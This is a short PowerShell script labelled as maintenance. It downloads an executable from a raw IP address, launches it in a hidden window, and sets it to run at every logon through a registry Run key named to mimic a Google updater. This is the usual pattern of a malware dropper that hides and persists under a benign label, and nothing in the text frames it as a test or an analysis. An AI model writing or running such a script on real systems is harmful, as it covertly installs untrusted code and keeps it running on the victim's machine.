# maintenance 2618 v2
Start-BitsTransfer -Source http://203.0.113.17/svc.exe -Destination C:\ProgramData\Microsoft\upd.exe
Start-Process -WindowStyle Hidden C:\ProgramData\Microsoft\upd.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value 'C:\ProgramData\Microsoft\upd.exe' -PropertyType String -Force
